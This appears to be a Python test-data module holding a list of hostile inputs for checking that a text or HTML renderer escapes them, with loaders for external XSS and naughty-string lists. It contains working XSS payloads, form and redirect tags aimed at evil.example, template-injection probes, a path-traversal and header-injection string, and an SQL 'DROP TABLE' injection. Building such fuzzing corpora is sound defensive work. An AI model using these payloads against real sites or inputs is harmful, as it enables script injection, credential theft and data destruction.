"""Texts that want to be more than text: lines of our own, and of the collections where the data folder has them."""

import os
from collections.abc import Iterator, Sequence
from pathlib import Path

COLLECTIONS = ("xss.txt", "blns.txt")
FOLDER = Path(os.environ.get("NUTGRAF_DATA", "")) / "hostile"

OURS = (
    "<script>canary('script')</script>",
    "</title><script>canary('title')</script>",
    "</textarea><script>canary('textarea')</script>",
    "</style></noscript></template><script>canary('raw')</script>",
    "--><script>canary('comment')</script><!--",
    "]]><script>canary('cdata')</script>",
    "<ScRiPt >canary('case')</sCrIpT\n>",
    "<img src=x onerror=canary('img')>",
    "<img/src=`x`/onerror=canary('slash')>",
    "<svg/onload=canary('svg')>",
    "<svg><animate onbegin=canary('animate') attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:canary('math')>x</a></math>",
    "<body onload=canary('body')>",
    "<iframe srcdoc='<script>parent.canary(1)</script>'></iframe>",
    "<object data=data:text/html,<script>canary(1)</script>></object>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>go",
    "<details open ontoggle=canary('toggle')>",
    "<input autofocus onfocus=canary('focus')>",
    "<p style='background:url(https://evil.example/x)'>",
    "<dialog open popover=auto>",
    "\" onmouseover=canary('attribute') x=\"",
    "' onmouseover=canary('single') x='",
    "\"><script>canary('double')</script>",
    "'><script>canary('quote')</script>",
    "` onmouseover=canary('backquote') x=`",
    "\" autofocus onfocus=canary('field') \"",
    "javascript:canary('address')",
    "JaVaScRiPt:canary('address')",
    "java\tscript:canary('tab')",
    "\x01javascript:canary('control')",
    "data:text/html,<script>canary('data')</script>",
    "vbscript:canary('vb')",
    "//evil.example/x",
    "{{ 7 * 7 }}{% raw %}{{ request.app }}",
    "${canary('template')} #{canary(1)} <%= canary(1) %>",
    "{0} {name} {n!r} %s %(name)s %n",
    "&lt;script&gt;canary('twice')&lt;/script&gt;",
    "&#60;script&#62;canary('number')&#60;/script&#62;",
    "%3Cscript%3Ecanary('percent')%3C/script%3E",
    "\\u003cscript\\u003ecanary('escape')\\u003c/script\\u003e",
    "＜script＞canary('wide')＜/script＞",
    "+ADw-script+AD4-canary('utf-7')+ADw-/script+AD4-",
    "\u202etxet desrever\u202c \u2066isolated\u2069 \u200b\ufeff",
    "\x00\x07\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "a\ud83d\ude00b\ufffe\uffff",
    "Ω≈ç√∫˜µ≤≥÷ 部落格 ﷽ ᚠᛇᚻ H̸̡̪̯ͨ͊̽̅̾̎",
    "../../etc/passwd?x=1&y=2#frag%00%0d%0aSet-Cookie:a=b",
    "' OR 1=1; DROP TABLE articles; --",
)  # fmt: skip


def collected() -> list[str]:
    """Return the lines of the collections, none where they are not there."""
    if not os.environ.get("NUTGRAF_DATA"):
        return []
    files = [FOLDER / name for name in COLLECTIONS if (FOLDER / name).is_file()]
    lines = (line for file in files for line in file.read_text("utf-8", "surrogateescape").split("\n"))
    return [line.encode("utf-8", "replace").decode("utf-8") for line in lines if line.strip()]


def grouped(texts: Sequence[str], longest: int, most: int) -> Iterator[list[str]]:
    """Yield the texts in groups of at most so many characters, where a single one is not longer, and so many texts."""
    group: list[str] = []
    for text in texts:
        if group and (len(group) == most or sum(map(len, group)) + len(group) + len(text) > longest):
            yield group
            group = []
        group.append(text)
    yield group
